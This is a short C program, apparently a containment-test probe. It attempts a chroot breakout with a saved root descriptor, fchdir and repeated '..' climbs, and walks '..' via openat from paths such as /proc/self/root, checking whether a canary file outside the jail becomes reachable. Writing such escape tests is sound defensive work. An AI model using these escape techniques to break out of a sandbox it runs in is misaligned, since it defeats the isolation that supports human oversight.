/*
 * does: climbs out of the root by chroot, descriptors and ".."
 */
int main(void) {
    char path[PATH_MAX];
    struct stat root, up;
    stat("/", &root);
    mkdir("/tmp/jail", 0755);
    int before = open("/", O_RDONLY);
    if (chroot("/tmp/jail") == 0) {
        fchdir(before);
        for (int i = 0; i < 100; i++) {
            chdir("..");
            snprintf(path, sizeof path, ".%s", told("CANARY"));
            if (show(path) == 0) escaped("by chroot, %d up", i);
        }
        stat(".", &up);
        if (up.st_ino != root.st_ino || up.st_dev != root.st_dev) escaped("above the root is another");
        chroot(".");
    }
    const char *starts[] = {"/", "/proc", "/sys", "/dev", "/dev/pts", "/dev/shm", "/usr", "/tmp", "/proc/self/cwd", "/proc/self/root"};
    for (int i = 0; i < 10; i++) {
        int at = open(starts[i], O_PATH | O_DIRECTORY);
        for (int n = 0; n < 40; n++) {
            int next = openat(at, "..", O_PATH | O_DIRECTORY);
            close(at);
            at = next;
        }
        snprintf(path, sizeof path, "/proc/self/fd/%d%s", at, told("CANARY"));
        if (show(path) == 0) escaped("up from %s", starts[i]);
        fstat(at, &up);
        if (up.st_ino != root.st_ino) escaped("up from %s is not the root", starts[i]);
    }
    return done();
}
